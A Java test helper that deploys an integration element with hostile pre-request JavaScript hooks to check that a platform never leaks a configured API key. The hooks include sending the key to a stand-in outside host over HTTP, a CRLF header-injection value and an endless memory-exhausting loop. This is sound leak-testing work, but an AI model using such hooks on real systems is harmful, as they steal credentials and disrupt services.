package dev.valence.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;

/** An element whose hooks and whose vendor say a secret in every way that there is. */
final class TalkativeElement {

  private static final List<String> HOOKS =
      List.of(
          "console.log(configuration['api.key']); done();",
          "console.error('the key ' + configuration['api.key'], {a: configuration}); done();",
          "throw new Error('broken by ' + configuration['api.key']);",
          "done({error: 'no ' + configuration['api.key']});",
          "JSON.parse('{' + configuration['api.key']);",
          "require('http').get('http://127.0.0.1:1/?key=' + configuration['api.key']);",
          "require('http').get('http://elsewhere.example/' + configuration['api.key']);",
          "require(configuration['api.key']);",
          "let s = configuration['api.key']; while (true) s += s;",
          "done({request_vendor_headers: {'X-A\\r\\n': configuration['api.key']}});");

  private final Api api;
  private final TestVendor vendor;

  TalkativeElement(Api api, TestVendor vendor) {
    this.api = api;
    this.vendor = vendor;
  }

  /** Calls each resource, also explained and traced; gives all that the caller is told. */
  List<String> walk(String secret) {
    vendor.on("/v1/said", 500, "the key " + secret);
    vendor.on("/v1/listed", 200, "{\"items\": [{\"id\": 1}], \"next\": \"" + secret + "\"}");
    ObjectNode definition = definition();
    RestTest.succeeded(api.post("/elements", api.organization(), definition));
    ObjectNode body = Api.JSON.createObjectNode().put("name", "Talkative");
    body.putObject("element").put("key", "talkative");
    body.putObject("configuration").put("api.key", secret);
    JsonNode instance = RestTest.succeeded(api.post("/instances", api.organization(), body)).json();
    String token = api.element(instance);
    List<String> told = new ArrayList<>();
    for (boolean traced : new boolean[] {false, true}) {
      if (traced) {
        api.call("PUT", Api.path(instance) + "/trace-logging", api.organization(), "{}");
      }
      for (int i = 0; i < HOOKS.size(); i++) {
        told.addAll(call("/hubs/fitness/hooked" + i, token));
      }
      told.addAll(call("/hubs/fitness/said", token));
      told.addAll(call("/hubs/fitness/listed", token));
      told.add(api.get("/hubs/fitness/hooked0?explain=true", token).response().body());
    }
    assertThat(vendor.asked("/v1/said")).isNotEmpty();
    assertThat(vendor.asked("/v1/said").getFirst().authorization()).isEqualTo("Bearer " + secret);
    told.add(api.delete(Api.path(instance), api.organization()).response().body());
    return told;
  }

  private List<String> call(String path, String token) {
    Api.Answer answer = api.get(path, token);
    List<String> told = new ArrayList<>(List.of(answer.response().body()));
    told.add(answer.response().headers().map().toString());
    String trace = answer.header("Elements-Trace-Id");
    if (!trace.isEmpty()) {
      told.add(api.get("/elements/talkative/trace/" + trace, api.organization()).response().body());
    }
    return told;
  }

  private ObjectNode definition() {
    try {
      ObjectNode definition =
          (ObjectNode)
              Api.JSON.readTree(
                  """
                  {"name": "Talkative", "key": "talkative", "description": "x", "hub": "fitness",
                   "authentication": {"type": "custom"},
                   "configuration": [
                     {"key": "base.url", "name": "Base", "type": "TEXTFIELD_1000",
                      "defaultValue": "http://%s/v1"},
                     {"key": "api.key", "name": "Key", "type": "PASSWORD", "required": true}],
                   "parameters": [
                     {"name": "Bearer ${configuration.api.key}", "type": "value",
                      "vendorName": "Authorization", "vendorType": "header",
                      "source": "request"}]}
                  """
                      .formatted(vendor.hostAndPort()));
      resource(definition, "said");
      resource(definition, "listed").put("rootKey", "items").put("nextPageKey", "body.next");
      for (int i = 0; i < HOOKS.size(); i++) {
        resource(definition, "hooked" + i)
            .withArrayProperty("hooks")
            .addObject()
            .put("type", "preRequest")
            .put("body", HOOKS.get(i));
      }
      return definition;
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static ObjectNode resource(ObjectNode definition, String name) {
    return definition
        .withArrayProperty("resources")
        .addObject()
        .put("type", "api")
        .put("method", "GET")
        .put("path", "/hubs/fitness/" + name)
        .put("vendorPath", "/" + name);
  }
}
